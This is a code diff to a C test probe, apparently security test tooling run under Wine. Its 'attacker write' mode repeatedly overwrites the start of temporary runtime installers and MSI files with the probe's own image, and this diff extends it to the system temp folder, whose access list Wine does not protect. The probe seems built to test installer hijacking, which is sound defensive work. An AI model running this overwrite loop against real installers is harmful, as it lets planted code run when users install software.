@@ -7,7 +7,9 @@
  *            `probe run` does
  *   attacker write SECONDS STOPFILE FOLDER
  *            notes "STARTED", then for SECONDS or until STOPFILE exists, opens
- *            for writing every runtime installer (%TEMP%\ZRP*.tmp\runtime.exe)
+ *            for writing every runtime installer (ZRP*.tmp\runtime.exe in the
+ *            user's and the system's temporary folder: Wine keeps neither's
+ *            access list from it)
  *            and every *.MSI in FOLDER and writes its own image over their
  *            start; appends
  *            "WROTE <path>" to the log for each write that got through and
@@ -107,7 +109,7 @@ static void overwrite_each(const char *folder, const char *pattern, const char *
 
 static int write_loop(DWORD seconds, const char *stopFile, const char *folder)
 {
-    char self[MAX_PATH], temp[MAX_PATH], text[96];
+    char self[MAX_PATH], temp[MAX_PATH], systemTemp[MAX_PATH], text[96];
     unsigned long runtimes = 0, databases = 0;
     static char image[1 << 20];
     DWORD imageSize = 0, end = GetTickCount() + seconds * 1000;
@@ -119,8 +121,11 @@ static int write_loop(DWORD seconds, const char *stopFile, const char *folder)
     note("STARTED");
     GetTempPathA(sizeof temp, temp);
     if (temp[0] && temp[strlen(temp) - 1] == '\\') temp[strlen(temp) - 1] = 0;
+    GetSystemDirectoryA(systemTemp, sizeof systemTemp - 8);
+    strcat(systemTemp, "\\..\\Temp");
     while ((LONG)(end - GetTickCount()) > 0 && GetFileAttributesA(stopFile) == INVALID_FILE_ATTRIBUTES) {
         overwrite_each(temp, "ZRP*", "runtime.exe", image, imageSize, &runtimes);
+        overwrite_each(systemTemp, "ZRP*", "runtime.exe", image, imageSize, &runtimes);
         overwrite_each(folder, "*.MSI", NULL, image, imageSize, &databases);
         Sleep(1);
     }
